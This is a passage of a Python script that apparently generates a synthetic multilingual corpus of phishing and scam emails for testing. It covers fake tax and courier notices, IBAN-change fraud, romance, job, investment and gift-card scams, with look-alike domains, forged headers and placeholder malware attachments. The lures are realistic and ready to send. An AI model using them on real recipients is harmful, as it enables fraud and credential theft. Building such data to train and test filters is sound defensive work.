<tr><td colspan="2" style="text-align:center;padding:20px"><a href="%s/?utm_source=mail&amp;utm_campaign=bf26" style="background:#e4002b;color:#fff;padding:14px 36px;font-size:18px;text-decoration:none">VER TODAS LAS OFERTAS</a><p style="font-size:13px">La oferta termina el domingo a las 23:59. ¡Solo quedan 37 pares!</p></td></tr>
<tr><td colspan="2" style="font-size:10px;color:#888;padding:16px;text-align:center">Recibes este correo porque te suscribiste en nuestra web. <a href="%s/unsub">Darse de baja</a></td></tr>
</table></body></html>""" % (cells, shop, shop)))

# ----------------------------------------------------------------------------------------------
# 26 es - romance scam from Gmail
# ----------------------------------------------------------------------------------------------
t26 = """Hola Javier,

Perdona que te escriba así, sin conocernos. Vi tu perfil en LinkedIn y me llamó la atención tu sonrisa y la forma en que hablas de tu trabajo y de Valencia, una ciudad que tengo muchas ganas de conocer.

Me llamo Isabel, tengo 41 años y soy cirujana. Ahora mismo estoy destinada con una misión médica internacional en Yemen, hasta finales de enero. Soy viuda desde hace tres años y no tengo hijos; aquí los días son muy largos y a veces me siento muy sola.

No busco nada raro, solo una amistad sincera con alguien serio y amable, y quién sabe lo que el destino nos tiene preparado. Aquí el acceso a internet es limitado, así que si te apetece seguir hablando, escríbeme mejor por WhatsApp al +1 (470) 555-0193 o por Telegram (@isabel_moreno_md).

Te mando una foto mía para que sepas con quién hablas.

Un abrazo muy fuerte desde muy lejos,
Isabel
"""
msg(K, 26, "es", "romance-scam",
    "Romance-scam opener in Spanish from a Gmail account ('widowed surgeon on a medical mission in Yemen') moving the contact to WhatsApp/Telegram.",
    gmail(ip="209.85.208.179", host="mail-lj1-f179.google.com"),
    from_=("Isabel Moreno", "isabel.moreno.cirujana@gmail.com"), to=[S("martinez")],
    subject="Hola, espero no molestarte", date="2026-11-29 21:14:33 +0100",
    charset="utf-8", cte="quoted-printable",
    body=Alt(T(t26), H('<div dir="ltr">' + t26.replace("\n\n", "</div><div dir=\"ltr\"><br></div><div dir=\"ltr\">").replace("\n", "<br>") + "</div>")))

# ----------------------------------------------------------------------------------------------
# 27 it - haulier bank-detail change from look-alike domain (no hyphen), PDF
# ----------------------------------------------------------------------------------------------
iban27 = A.iban_it("03268", "01605", "052917384620")
pdf27 = A.pdf([[("FERRETTI TRASPORTI S.r.l.", 15, True), "Via dell'Industria 22 - 37135 Verona (VR)",
                "P.IVA 03847210236 - REA VR-374512", "", "",
                "Spett.le Example Group Italia S.r.l.", "Ufficio Amministrazione", "", "Verona, 25/11/2026", "",
                ("Oggetto: comunicazione variazione coordinate bancarie", 11, True), "",
                "Con la presente Vi comunichiamo che, a decorrere dalla data odierna, i pagamenti relativi",
                "alle nostre fatture dovranno essere effettuati esclusivamente sul seguente conto corrente:", "",
                "Intestatario: Ferretti Trasporti S.r.l.", "Banca: Banca Sella S.p.A.",
                "IBAN: " + A.fmt_iban(iban27), "BIC/SWIFT: SELBIT2BXXX", "",
                "Il precedente conto presso Banco BPM non è più operativo.", "",
                "Distinti saluti", "", "L'Amministratore Unico", "Alessandro Ferretti"]],
              title="Comunicazione IBAN", author="Chiara", created=D("2026-11-25 10:03"))
msg(K, 27, "it", "ferretti-iban-lookalike",
    "Haulier bank-detail change from the look-alike domain ferrettitrasporti.it (missing hyphen, authentication passes), claiming the old account is frozen and asking to pay overdue invoices to a new IBAN; PDF on 'letterhead'.",
    postfix("mail.ferrettitrasporti.it", "89.46.108.52", rdns="smtpout108-52.hostingsolutions.it", dmarc=("pass", "p=none dis=none"),
            bstyle="outlook", mailer=("X-Mailer", "Microsoft Outlook 16.0"), msgid=lambda r, d, dt: outlook_desktop_msgid(r, d)),
    from_=("Chiara Colombo", "c.colombo@ferrettitrasporti.it"), to=[("Francesca Romano", "f.romano@examplegroup.eu")],
    subject="Variazione coordinate bancarie - Ferretti Trasporti S.r.l. - URGENTE",
    date="2026-11-25 10:36:21 +0100", charset="iso-8859-15", cte="quoted-printable",
    body=Mixed(T("""Gentile Dott.ssa Romano,

con la presente Vi comunichiamo che, a causa di una verifica fiscale in corso, il nostro conto presso Banco BPM è temporaneamente bloccato e non può ricevere accrediti.

A decorrere da oggi Vi preghiamo pertanto di disporre tutti i pagamenti sul nuovo conto corrente indicato nella comunicazione allegata su carta intestata:

Intestatario: Ferretti Trasporti S.r.l.
Banca: Banca Sella S.p.A.
IBAN: %s

Vi chiediamo inoltre di saldare con cortese urgenza le fatture scadute n. 2026/1187 e n. 2026/1203 (totale € 9.842,30) sul nuovo conto, così da evitare la sospensione dei servizi di trasporto in programma per dicembre.

Vi prego di inviarmi la contabile del bonifico via e-mail appena disponibile.

Cordiali saluti

Chiara Colombo
Ufficio Amministrazione
Ferretti Trasporti S.r.l.
Via dell'Industria 22 - 37135 Verona
Tel. +39 045 820 4471
""" % A.fmt_iban(iban27)), Att("Comunicazione_variazione_IBAN_Ferretti.pdf", pdf27, PDF_CT)))

# ----------------------------------------------------------------------------------------------
# 28 it - fake Agenzia delle Entrate notice, encrypted ZIP with VBS placeholder
# ----------------------------------------------------------------------------------------------
zip28 = A.zip_archive([("Comunicazione_ADE_0451287.vbs", A.placeholder_script("vbs", "a28"), (2026, 11, 26, 7, 55, 3))],
                      password="ADE2026", seed="a28")
msg(K, 28, "it", "agenzia-entrate-zip",
    "Fake Agenzia delle Entrate 'irregularity notice' from a look-alike domain through a compromised PHPMailer host, with a password-protected ZIP containing a VBS dropper placeholder.",
    phpmailer("web42.aziendeweb.net", "93.62.180.15", rdns="93-62-180-15.ip23.fastwebnet.it", spf="softfail", dmarc=("none", "")),
    from_=("Agenzia delle Entrate", "comunicazioni@agenziaentrate-gov.it"), to=[S("bianchi")],
    subject="Avviso di irregolarità - Comunicazione n. 2026/ADE/0451287",
    date="2026-11-26 08:02:40 +0100", charset="windows-1252", cte="base64",
    body=Mixed(T("""Gentile Contribuente,

a seguito dei controlli automatizzati effettuati ai sensi dell'art. 36-bis del D.P.R. n. 600/1973 e dell'art. 54-bis del D.P.R. n. 633/1972 sulla dichiarazione presentata per il periodo d'imposta 2025, sono emerse irregolarità che comportano il pagamento di somme non versate.

In allegato trasmettiamo la comunicazione di irregolarità n. 2026/ADE/0451287.
Per la tutela dei dati personali il documento è protetto da password: ADE2026

Entro 30 giorni dal ricevimento è possibile fornire chiarimenti o regolarizzare la posizione beneficiando della riduzione delle sanzioni. Decorso tale termine si procederà all'iscrizione a ruolo.

Cordiali saluti

Agenzia delle Entrate
Direzione Provinciale di Verona – Ufficio Controlli
"""), Att("Comunicazione_ADE_0451287.zip", zip28, ZIP_CT)))

# ----------------------------------------------------------------------------------------------
# 29 it - fake BRT delivery fee
# ----------------------------------------------------------------------------------------------
u29 = "https://brt-spedizioni.info/tracking/riprogramma?sped=09172026112844710&c=IT"
t29 = """Gentile cliente,

non è stato possibile consegnare la spedizione n. 0917 2026 1128 4471 per indirizzo incompleto.

La spedizione è in giacenza presso la nostra filiale di Verona. Per riprogrammare la consegna è richiesto il pagamento di un contributo di 1,99 € entro 48 ore; trascorso tale termine la merce sarà restituita al mittente.

Riprogramma la consegna: %s

Grazie per aver scelto BRT.

BRT S.p.A. – Servizio Clienti
""" % u29
msg(K, 29, "it", "brt-giacenza-phish",
    "Fake BRT courier 'parcel held, pay 1.99 EUR to reschedule' phishing from a look-alike domain, ISO-8859-1 multipart/alternative.",
    postfix("mail.brt-spedizioni.info", "185.244.181.9", rdns="", dmarc=("none", ""), bstyle="java"),
    from_=("BRT S.p.A.", "notifiche@brt-spedizioni.info"), to=[S("esposito")],
    subject="BRT - La tua spedizione 0917 2026 1128 4471 è in giacenza",
    date="2026-11-28 09:18:50 +0100", charset="iso-8859-1", cte="quoted-printable",
    body=Alt(T(t29), H("""<html><body style="font-family:Arial;font-size:14px"><div style="background:#d6001c;color:#fff;padding:14px;font-size:22px"><b>BRT</b></div>
<p>Gentile cliente,</p><p>non è stato possibile consegnare la spedizione n. <b>0917 2026 1128 4471</b> per indirizzo incompleto.</p>
<p>La spedizione è in giacenza presso la nostra filiale di Verona. Per riprogrammare la consegna è richiesto il pagamento di un contributo di <b>1,99 EUR</b> entro 48 ore.</p>
<p><a href="%s" style="background:#d6001c;color:#fff;padding:10px 20px;text-decoration:none">Riprogramma la consegna</a></p>
<p>Grazie per aver scelto BRT.</p><p style="font-size:11px;color:#777">BRT S.p.A. – Servizio Clienti</p></body></html>""" % u29)))

# ----------------------------------------------------------------------------------------------
# 30 it - investment / AI trading scam via SendGrid, HTML only
# ----------------------------------------------------------------------------------------------
u30 = "https://ilsole-finanza-news.com/articolo/metodo-ia-2026?src=nl&cid=8841"
msg(K, 30, "it", "investimento-ia-trading",
    "Investment scam styled as a financial-news article about an 'AI trading platform' (250 EUR becomes 8,400 EUR), sent through SendGrid, HTML-only.",
    sendgrid("167.89.54.12", "o2.ptr4412.ilsole-finanza-news.com", sub="em4412", uid=29104755),
    from_=("Il Sole Finanza – Redazione", "redazione@ilsole-finanza-news.com"), to=[S("bianchi")],
    subject="Con 250 € ha guadagnato 8.400 € in un mese: il metodo IA che le banche vogliono vietare",
    date="2026-11-29 11:05:12 +0100", charset="utf-8", cte="base64",
    body=H("""<html><head><meta charset="utf-8"></head><body style="font-family:Georgia,serif;background:#fff;color:#222">
<table width="620" align="center"><tr><td style="border-bottom:3px solid #000;padding:8px 0;font-size:26px"><b>Il Sole Finanza</b> <span style="font-size:12px;color:#888">Economia · Mercati · Risparmio</span></td></tr>
<tr><td style="padding:18px 0"><h1 style="font-size:28px;margin:0">«Con 250 euro ho guadagnato 8.400 euro in un mese»: il metodo basato sull'intelligenza artificiale che le banche vogliono vietare</h1>
<p style="color:#666;font-size:13px">di Redazione · 29 novembre 2026</p>
<p style="font-size:16px;line-height:24px">Durante un'intervista in diretta, un noto imprenditore televisivo ha rivelato di aver investito in una nuova piattaforma di trading automatico con intelligenza artificiale. «Il sistema analizza i mercati 24 ore su 24 e apre solo operazioni vincenti. Serve un deposito minimo di 250 euro», ha dichiarato prima che la trasmissione venisse interrotta.</p>
<p style="font-size:16px;line-height:24px">Abbiamo provato la piattaforma per 30 giorni: il nostro capitale iniziale di 250 € è diventato <b>8.412 €</b>. Le principali banche italiane avrebbero già chiesto alla Consob di bloccarla.</p>
<p style="text-align:center;padding:16px"><a href="%s" style="background:#0a7d32;color:#fff;font-family:Arial;font-size:18px;padding:14px 30px;text-decoration:none">Registrati ora – posti limitati</a></p>
<p style="font-size:12px;color:#888">Le registrazioni per l'Italia chiudono il 4 dicembre. Un consulente personale ti contatterà telefonicamente entro 24 ore.</p></td></tr>
<tr><td style="font-size:10px;color:#aaa;border-top:1px solid #ddd;padding-top:8px">Hai ricevuto questa newsletter perché sei iscritto ai nostri aggiornamenti. <a href="https://ilsole-finanza-news.com/unsubscribe">Annulla iscrizione</a></td></tr>
</table></body></html>""" % u30))

# ----------------------------------------------------------------------------------------------
# 31 it - inheritance advance-fee targeting a staff surname
# ----------------------------------------------------------------------------------------------
msg(K, 31, "it", "eredita-advance-fee",
    "Advance-fee 'unclaimed inheritance' letter in Italian from a supposed lawyer, targeting the employee's surname (Romano) and asking for a reply to a private address.",
    postfix("smtp-31-i2.italiaonline.it", "213.209.12.31", rdns="smtp-31-i2.italiaonline.it", dkim_sel="s2014",
            dmarc=("pass", "p=none dis=none"), bstyle="java", mailer=("X-Mailer", "Libero Mail")),
    from_=("Avv. Roberto Malfatti", "avv.roberto.malfatti@libero.it"),
    reply_to=("Avv. Roberto Malfatti", "studiolegale.malfatti@consultant.com"), to=[S("romano")],
    subject="Riservato: successione del defunto Sig. Francesco Romano",
    date="2026-11-30 15:44:08 +0100", charset="iso-8859-1", cte="base64",
    body=T("""Gentile Sig.ra Romano,

mi chiamo Roberto Malfatti e sono l'avvocato personale del defunto Sig. Francesco Romano, imprenditore italiano del settore import-export, deceduto a Londra nel marzo 2022 insieme alla moglie in un incidente stradale.

Il mio cliente ha lasciato presso un istituto finanziario di Londra un deposito di 4.850.000,00 euro (quattromilioniottocentocinquantamila euro). La banca mi ha comunicato che, in assenza di eredi entro il 31 dicembre 2026, il fondo sarà dichiarato non reclamato e confiscato.

Nonostante lunghe ricerche non ho trovato parenti del defunto. Poiché Lei porta lo stesso cognome, posso presentarLa legalmente alla banca come beneficiaria, in modo che i fondi vengano liquidati a Suo favore. Propongo una ripartizione del 45% per Lei, del 45% per me e del 10% per le eventuali spese.

L'operazione è del tutto legale e priva di rischi: mi occuperò personalmente di tutta la documentazione necessaria.

La prego di trattare questa comunicazione con la massima riservatezza e di rispondermi al mio indirizzo personale studiolegale.malfatti@consultant.com indicando nome completo, recapito telefonico e indirizzo.

Distinti saluti

Avv. Roberto Malfatti
"""))

# ----------------------------------------------------------------------------------------------
# 32 pl - partner look-alike domain, corrective invoice, ZIP with disk image placeholder
# ----------------------------------------------------------------------------------------------
zip32 = A.zip_archive([("FK_2026_11_0387.img", A.placeholder_iso("FK_2026_11_0387"), (2026, 11, 24, 13, 40, 11))], seed="a32")
msg(K, 32, "pl", "partner-logistik-lookalike-zip",
    "Corrective-invoice lure from the look-alike domain partner-logistlk.pl (i replaced by l, authentication passes) with a ZIP containing a disk-image placeholder.",
    postfix("mail.partner-logistlk.pl", "45.94.47.119", rdns="45-94-47-119.vps.k-cloud.pl", dmarc=("pass", "p=none dis=none"),
            bstyle="outlook", mailer=("X-Mailer", "Microsoft Outlook 16.0"), msgid=lambda r, d, dt: outlook_desktop_msgid(r, d)),
    from_=("Magdalena Wójcik", "ksiegowosc@partner-logistlk.pl"), to=[S("nowak")],
    subject="Faktura korygująca FK/2026/11/0387 do faktury FV/2026/11/2214",
    date="2026-11-24 13:52:18 +0100", charset="iso-8859-2", cte="quoted-printable",
    body=Mixed(T("""Dzień dobry,

w załączeniu przesyłamy fakturę korygującą FK/2026/11/0387 do faktury FV/2026/11/2214 z dnia 05.11.2026 (korekta stawki za magazynowanie – paleta EUR, listopad).

Prosimy o weryfikację i akceptację korekty do końca tygodnia. Ze względu na rozmiar pliki zostały spakowane.

Z poważaniem

Magdalena Wójcik
Dział Księgowości
Partner Logistik Sp. z o.o.
ul. Składowa 8, 62-080 Tarnowo Podgórne
tel. +48 61 842 17 30
"""), Att("FK_2026_11_0387.zip", zip32, ZIP_CT)))

# ----------------------------------------------------------------------------------------------
# 33 pl - InPost micro-payment phishing
# ----------------------------------------------------------------------------------------------
u33 = "https://inpost-pl.paczka-doplata.com/p/695020261130441877020"
t33 = """Dzień dobry,

Twoja paczka nr 695020261130441877020 nie może zostać umieszczona w Paczkomacie z powodu niepełnej opłaty za przesyłkę.

Kwota dopłaty: 1,99 zł

Opłać przesyłkę w ciągu 24 godzin, w przeciwnym razie zostanie ona zwrócona do nadawcy:
%s

Pozdrawiamy,
Zespół InPost
""" % u33
msg(K, 33, "pl", "inpost-doplata",
    "InPost 'pay 1.99 PLN or the parcel is returned' phishing from a compromised hosting account via PHPMailer, windows-1250 multipart/alternative.",
    phpmailer("s12.hosting-serwery.pl", "91.227.28.73", spf="none", dmarc=("none", "")),
    from_=("InPost", "powiadomienia@inpost-paczka24.info"), to=[S("wisniewski")],
    subject="Twoja paczka czeka na dopłatę 1,99 zł – nr 695020261130441877020",
    date="2026-11-30 07:41:02 +0100", charset="windows-1250", cte="quoted-printable",
    body=Alt(T(t33), H("""<html><body style="font-family:Arial;font-size:14px;background:#f7f7f7"><table width="580" align="center" style="background:#fff">
<tr><td style="background:#ffcd00;padding:14px;font-size:22px"><b>InPost</b></td></tr>
<tr><td style="padding:20px">Dzień dobry,<br><br>Twoja paczka nr <b>695020261130441877020</b> nie może zostać umieszczona w Paczkomacie z powodu niepełnej opłaty za przesyłkę.<br><br>Kwota dopłaty: <b>1,99 zł</b><br><br>
<a href="%s" style="background:#1d1d1b;color:#ffcd00;padding:10px 22px;text-decoration:none">Opłać teraz</a><br><br>Pozdrawiamy,<br>Zespół InPost</td></tr></table></body></html>""" % u33)))

# ----------------------------------------------------------------------------------------------
# 34 pl - KSeF-themed phishing with inline QR code image
# ----------------------------------------------------------------------------------------------
qr34 = "https://ksef.mf.gov.pl.odbior-faktury.com/web/login?nip=7781234567&ref=5252344078-20261126-8A41C2F9B3D0-7E"
png34 = A.qr_png(qr34, scale=5)
t34 = """Szanowni Państwo,

w Krajowym Systemie e-Faktur (KSeF) zarejestrowano nową fakturę ustrukturyzowaną wystawioną na Państwa firmę (NIP 7781234567):

Numer KSeF: 5252344078-20261126-8A41C2F9B3D0-7E
Wystawca: NIP 5252344078
Kwota brutto: 18 742,55 zł
Termin płatności: 03.12.2026

Aby pobrać fakturę i potwierdzić jej odbiór, zeskanuj kod QR aplikacją mobilną i zaloguj się Profilem Zaufanym lub bankowością elektroniczną.

Brak potwierdzenia odbioru w ciągu 3 dni roboczych może skutkować naliczeniem odsetek przez wystawcę.

Wiadomość wygenerowana automatycznie – prosimy na nią nie odpowiadać.
Ministerstwo Finansów – Krajowy System e-Faktur
"""
msg(K, 34, "pl", "ksef-qr-phish",
    "Polish e-invoicing (KSeF) themed phishing with the link only inside an inline QR image (multipart/related), windows-1250 base64, from a VPS look-alike 'notification' domain.",
    postfix("mail.ksef-powiadomienia.pl", "146.59.44.210", rdns="vps-3c9e1f2a.vps.ovh.net", dmarc=("none", ""), bstyle="generic"),
    from_=("Krajowy System e-Faktur (KSeF)", "no-reply@ksef-powiadomienia.pl"), to=[S("nowak")],
    subject="KSeF: nowa faktura – wymagane potwierdzenie odbioru (nr KSeF 5252344078-20261126-8A41C2F9B3D0-7E)",
    date="2026-11-26 10:17:45 +0100", charset="windows-1250", cte="base64",
    body=Alt(T(t34), Rel(H("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1250"></head>
<body style="font-family:Arial;font-size:14px"><table width="600" style="border:1px solid #ccc"><tr><td style="background:#d4213d;color:#fff;padding:14px"><b>Krajowy System e-Faktur</b></td></tr>
<tr><td style="padding:18px">Szanowni Państwo,<br><br>w Krajowym Systemie e-Faktur (KSeF) zarejestrowano nową fakturę ustrukturyzowaną wystawioną na Państwa firmę (NIP 7781234567):<br><br>
Numer KSeF: <b>5252344078-20261126-8A41C2F9B3D0-7E</b><br>Kwota brutto: <b>18 742,55 zł</b><br>Termin płatności: 03.12.2026<br><br>
Aby pobrać fakturę i potwierdzić jej odbiór, <b>zeskanuj kod QR</b> aplikacją mobilną i zaloguj się Profilem Zaufanym lub bankowością elektroniczną.<br><br>
<img src="cid:qr-ksef-7e@ksef" width="205" height="205" alt="kod QR"><br><br>
Brak potwierdzenia odbioru w ciągu 3 dni roboczych może skutkować naliczeniem odsetek przez wystawcę.<br><br>
<span style="font-size:11px;color:#777">Wiadomość wygenerowana automatycznie – prosimy na nią nie odpowiadać.<br>Ministerstwo Finansów – Krajowy System e-Faktur</span></td></tr></table></body></html>"""),
                             Att("qr.png", png34, "image/png", inline=True, cid="qr-ksef-7e@ksef"))))

# ----------------------------------------------------------------------------------------------
# 35 pl - remote-work task scam from Polish free-mail
# ----------------------------------------------------------------------------------------------
msg(K, 35, "pl", "praca-zdalna-scam",
    "Polish task/job scam from a wp.pl free-mail address: 'rate products online, 450 PLN a day, paid daily', contact via WhatsApp/Telegram.",
    postfix("mx4.wp.pl", "212.77.101.12", rdns="mx4.wp.pl", dkim_sel="1024a", dmarc=("pass", "p=none dis=none"), bstyle="java",
            mailer=("X-WP-Mailer", "WP Poczta")),
    from_=("Dział Rekrutacji", "rekrutacja.zdalna2026@wp.pl"), to=[S("wisniewski")],
    subject="Oferta pracy zdalnej – 450 zł dziennie, 1-2 godziny",
    date="2026-12-01 17:26:39 +0100", charset="utf-8", cte="quoted-printable",
    body=T("""Dzień dobry,

Pana dane kontaktowe otrzymaliśmy z portalu ogłoszeniowego. Nasza firma współpracuje z dużymi sklepami internetowymi i obecnie poszukujemy osób do pracy zdalnej na stanowisko "Specjalista ds. ocen produktów".

Na czym polega praca:
– ocenianie produktów i sklepów na naszej platformie (ok. 30 zadań dziennie),
– praca 1–2 godziny dziennie z telefonu lub komputera,
– wynagrodzenie od 450 zł dziennie, wypłata codziennie na konto lub w kryptowalucie USDT,
– nie jest wymagane doświadczenie, zapewniamy szkolenie z opiekunem.

Liczba miejsc jest ograniczona. Jeśli jest Pan zainteresowany, prosimy o kontakt przez WhatsApp: +48 573 402 118 lub Telegram: @praca_oceny_pl (prosimy podać kod: PL-2611).

Z poważaniem
Dział Rekrutacji
"""))

# ----------------------------------------------------------------------------------------------
# 36 pl - fake bank security notice (business banking lock)
# ----------------------------------------------------------------------------------------------
u36 = "https://mbank-biznes.com.pl/weryfikacja/firma?id=7781234567&s=41c9"
t36 = """Szanowni Państwo,

w związku z wdrożeniem nowych wymogów bezpieczeństwa dla rachunków firmowych (silne uwierzytelnianie, PSD3) konieczna jest ponowna weryfikacja użytkowników bankowości internetowej mBank CompanyNet.

Brak weryfikacji do dnia 04.12.2026 spowoduje czasową blokadę realizacji przelewów z rachunków firmy.

Weryfikacja zajmuje około 2 minut:
%s

Z poważaniem
Departament Bezpieczeństwa
mBank S.A.
""" % u36
msg(K, 36, "pl", "bank-blokada-firmowa",
    "Fake mBank CompanyNet security notice ('re-verify or transfers will be blocked') from a look-alike domain through a compromised PHP mailer, ISO-8859-2 base64.",
    phpmailer("cp14.polskihosting.net", "188.210.222.14", spf="none", dmarc=("none", "")),
    from_=("mBank – Bezpieczeństwo", "bezpieczenstwo@mbank-biznes.com.pl"), to=[S("kowalczyk")],
    subject="Ważne: czasowa blokada dostępu do bankowości firmowej",
    date="2026-12-03 08:05:57 +0100", charset="iso-8859-2", cte="base64",
    body=Alt(T(t36), H("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-2"></head><body style="font-family:Arial;font-size:14px">
<div style="background:#c80000;color:#fff;padding:12px;font-size:20px"><b>mBank</b> CompanyNet</div>
<p>Szanowni Państwo,</p><p>w związku z wdrożeniem nowych wymogów bezpieczeństwa dla rachunków firmowych (silne uwierzytelnianie, PSD3) konieczna jest ponowna weryfikacja użytkowników bankowości internetowej mBank CompanyNet.</p>
<p><b>Brak weryfikacji do dnia 04.12.2026 spowoduje czasową blokadę realizacji przelewów z rachunków firmy.</b></p>
<p><a href="%s" style="background:#c80000;color:#fff;padding:10px 20px;text-decoration:none">Zweryfikuj teraz</a></p>
<p>Z poważaniem<br>Departament Bezpieczeństwa<br>mBank S.A.</p></body></html>""" % u36)))

# ----------------------------------------------------------------------------------------------
# 37 el - fake AADE tax-refund phishing, ISO-8859-7 HTML only
# ----------------------------------------------------------------------------------------------
u37 = "https://www1.aade.gr.epistrofi-forou.com/taxisnet/refund?afm=&ref=GR2026-41280"
msg(K, 37, "el", "aade-epistrofi-forou",
    "Fake Greek tax authority (AADE/myAADE) tax-refund phishing asking for card details via a www1.aade.gr.<attacker-domain> link, ISO-8859-7 HTML-only.",
    phpmailer("server1.hellas-webhost.gr", "79.129.44.201", rdns="ppp079129044201.access.hol.gr", spf="none", dmarc=("none", "")),
    from_=("ΑΑΔΕ – myAADE", "noreply@aade-gov.gr.com"), to=[S("georgiou")],
    subject="Ειδοποίηση επιστροφής φόρου: 412,80 €",
    date="2026-11-24 15:33:08 +0200", charset="iso-8859-7", cte="quoted-printable",
    body=H("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-7"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#222"><table width="600" align="center" style="border:1px solid #d0d7de">
<tr><td style="background:#003476;color:#fff;padding:14px;font-size:18px"><b>ΑΑΔΕ</b> · Ανεξάρτητη Αρχή Δημοσίων Εσόδων</td></tr>
<tr><td style="padding:20px;line-height:22px">Αγαπητέ φορολογούμενε,<br><br>
Μετά τον τελικό υπολογισμό της ετήσιας φορολογικής σας δραστηριότητας, διαπιστώθηκε ότι δικαιούστε επιστροφή φόρου ύψους <b>412,80 €</b>.<br><br>
Για να λάβετε την επιστροφή, πρέπει να επιβεβαιώσετε τα στοιχεία της τραπεζικής σας κάρτας μέσω της υπηρεσίας TAXISnet εντός 72 ωρών.<br><br>
<a href="%s" style="background:#003476;color:#fff;padding:10px 22px;text-decoration:none">Είσοδος στο TAXISnet</a><br><br>
Σε περίπτωση μη επιβεβαίωσης, το αίτημα επιστροφής θα ακυρωθεί αυτόματα.<br><br>
Με εκτίμηση,<br>Ανεξάρτητη Αρχή Δημοσίων Εσόδων</td></tr>
<tr><td style="padding:10px 20px;font-size:11px;color:#777">Το μήνυμα αυτό δημιουργήθηκε αυτόματα. Παρακαλούμε μην απαντάτε.</td></tr></table></body></html>""" % u37))

# ----------------------------------------------------------------------------------------------
# 38 el - fake ELTA Courier delivery fee
# ----------------------------------------------------------------------------------------------
u38 = "https://elta-courier-gr.info/track/EL202644719GR/pay"
t38 = """Αγαπητέ πελάτη,

Το δέμα σας με αριθμό αποστολής EL 2026 4471 9 GR δεν μπόρεσε να παραδοθεί λόγω ελλιπούς διεύθυνσης και εκκρεμών τελών.

Για να προγραμματίσετε εκ νέου την παράδοση, παρακαλούμε πληρώστε το ποσό των 1,79 € εντός 48 ωρών:
%s

Μετά την παρέλευση της προθεσμίας το δέμα θα επιστραφεί στον αποστολέα.

ΕΛΤΑ Courier Α.Ε.
""" % u38
msg(K, 38, "el", "elta-courier-telos",
    "Fake ELTA Courier 'undeliverable parcel, pay 1.79 EUR' phishing from a look-alike domain, windows-1253 base64 multipart/alternative.",
    postfix("mail.elta-courier-gr.info", "195.211.96.18", rdns="", dmarc=("none", ""), bstyle="java"),
    from_=("ΕΛΤΑ Courier", "enimerosi@elta-courier-gr.info"), to=[S("papadopoulos")],
    subject="Το δέμα σας EL 2026 4471 9 GR δεν μπόρεσε να παραδοθεί",
    date="2026-11-27 12:09:31 +0200", charset="windows-1253", cte="base64",
    body=Alt(T(t38), H("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1253"></head><body style="font-family:Arial;font-size:14px">
<div style="background:#ffd400;padding:12px;font-size:20px;color:#00387b"><b>ΕΛΤΑ Courier</b></div>
<p>Αγαπητέ πελάτη,</p><p>Το δέμα σας με αριθμό αποστολής <b>EL 2026 4471 9 GR</b> δεν μπόρεσε να παραδοθεί λόγω ελλιπούς διεύθυνσης και εκκρεμών τελών.</p>
<p>Για να προγραμματίσετε εκ νέου την παράδοση, παρακαλούμε πληρώστε το ποσό των <b>1,79 €</b> εντός 48 ωρών.</p>
<p><a href="%s" style="background:#00387b;color:#fff;padding:10px 20px;text-decoration:none">Πληρωμή και επαναπρογραμματισμός</a></p>
<p>ΕΛΤΑ Courier Α.Ε.</p></body></html>""" % u38)))

# ----------------------------------------------------------------------------------------------
# 39 el - gift-card fraud, display-name spoof of the sales manager from Gmail
# ----------------------------------------------------------------------------------------------
t39 = """Ελένη καλημέρα,

Είσαι στο γραφείο; Χρειάζομαι μια γρήγορη χάρη.

Είμαι σε σύσκεψη με πελάτη και δεν μπορώ να μιλήσω στο τηλέφωνο. Θέλω να μου αγοράσεις 5 δωροκάρτες Apple των 100 € για δώρα σε πελάτες (τις βρίσκεις σε Πλαίσιο, Κωτσόβολο ή σε περίπτερο).

Ξύσε το πίσω μέρος και στείλε μου εδώ φωτογραφία με τους κωδικούς όσο πιο γρήγορα μπορείς. Θα σου τα επιστρέψω σήμερα από το ταμείο.

Ευχαριστώ πολύ,
Δημήτρης

Στάλθηκε από το iPhone μου"""
msg(K, 39, "el", "gift-card-spoof",
    "Gift-card fraud: display-name spoof of the Greek sales manager from a Gmail address asking the office accountant to buy Apple gift cards and send photos of the codes.",
    gmail(ip="209.85.128.54", host="mail-wm1-f54.google.com", client=("X-Mailer", "iPhone Mail (23B85)")),
    from_=("Δημήτριος Παπαδόπουλος", "dpapadopoulos.sales@gmail.com"), to=[S("georgiou")],
    subject="Επείγον", date="2026-11-30 10:02:14 +0200", charset="utf-8", cte="quoted-printable",
    bstyle="apple", body=T(t39))

# ----------------------------------------------------------------------------------------------
# 40 el - crypto investment lead scam
# ----------------------------------------------------------------------------------------------
t40 = """Κύριε Παπαδόπουλε,

Σας ενημερώνουμε ότι η αίτησή σας για συμμετοχή στο πρόγραμμα αυτοματοποιημένων επενδύσεων Quantum AI Hellas έχει εγκριθεί.

Με αρχικό κεφάλαιο μόλις 250 €, οι πελάτες μας καταγράφουν μέσες αποδόσεις έως 3.200 € τον μήνα, χάρη στον αλγόριθμο τεχνητής νοημοσύνης που διαπραγματεύεται κρυπτονομίσματα 24 ώρες το 24ωρο.

Ο προσωπικός σας σύμβουλος θα επικοινωνήσει μαζί σας τηλεφωνικά τις επόμενες 24 ώρες. Για να διασφαλίσετε τη θέση σας, επιβεβαιώστε τον αριθμό του κινητού σας εδώ:
https://quantumai-hellas.com/gr/confirm?lead=GR-88214

Οι θέσεις για την Ελλάδα είναι περιορισμένες και η προσφορά λήγει στις 06/12.

Με εκτίμηση,
Κωνσταντίνα Αναγνώστου
Επενδυτική Σύμβουλος
Quantum AI Hellas
"""
msg(K, 40, "el", "crypto-ependysi",
    "Greek crypto 'AI investment programme approved' lead-generation scam asking the recipient to confirm a mobile number for a callback, windows-1253 quoted-printable.",
    postfix("mail.quantumai-hellas.com", "194.26.192.77", rdns="", dmarc=("pass", "p=none dis=none"), bstyle="generic"),
    from_=("Κωνσταντίνα Αναγνώστου", "k.anagnostou@quantumai-hellas.com"), to=[S("papadopoulos")],
    subject="Η θέση σας στο πρόγραμμα επενδύσεων AI έχει εγκριθεί",
    date="2026-12-04 13:47:26 +0200", charset="windows-1253", cte="quoted-printable",
    body=Alt(T(t40), H("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=windows-1253\"></head><body style=\"font-family:Arial;font-size:14px\"><p>"
